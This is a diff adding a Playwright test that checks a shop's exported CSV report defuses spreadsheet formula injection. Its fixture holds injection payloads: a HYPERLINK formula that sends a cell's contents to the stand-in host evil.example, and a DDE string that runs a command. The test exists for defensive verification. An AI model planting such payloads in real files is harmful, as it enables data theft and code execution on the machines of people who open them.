@@ -57,3 +57,25 @@ test('a catalog file is checked in the background: flagged listings with reasons
   expect(l1).toMatch(/,allow,allow,,,allow,0\.\d{3}$/);
   expect(csv.find((l) => l.startsWith('L2,'))).toMatch(/prohibited/);
 });
+
+test('the report CSV cannot run formulas in a spreadsheet: cells that start with = + - @ are neutralised', async ({ page }) => {
+  const products = [
+    { id: 'F1', title: '=HYPERLINK("http://evil.example/?q="&A1,"Click")', price: 10, currency: 'INR' },
+    { id: '+cmd|\' /C calc\'!A0', title: 'Mug', price: 10, currency: 'INR' },
+    { id: 'F3', title: '@SUM(1+1)', price: 10, currency: 'INR' },
+  ];
+  await openShop(page, '#/store');
+  await page.getByTestId('catalog-file').setInputFiles({ name: 'formulas.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(products)) });
+  await expect(page.getByTestId('catalog-report')).toContainText('3 products ready');
+  const check = page.getByTestId('listing-check');
+  await check.getByTestId('run-check').click();
+  await expect(check.getByTestId('check-progress')).toHaveText('3 of 3 checked', { timeout: 90_000 });
+  const download = page.waitForEvent('download');
+  await check.getByTestId('export-report').click();
+  const csv = readFileSync(await (await download).path(), 'utf8');
+  expect(csv).toContain(`F1,"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")"`);
+  expect(csv).toContain(`'+cmd|' /C calc'!A0,Mug,`);
+  expect(csv).toContain(`F3,'@SUM(1+1),`);
+  // No cell of the file starts with a formula character.
+  for (const line of csv.trim().split(/\r\n/)) expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
+});
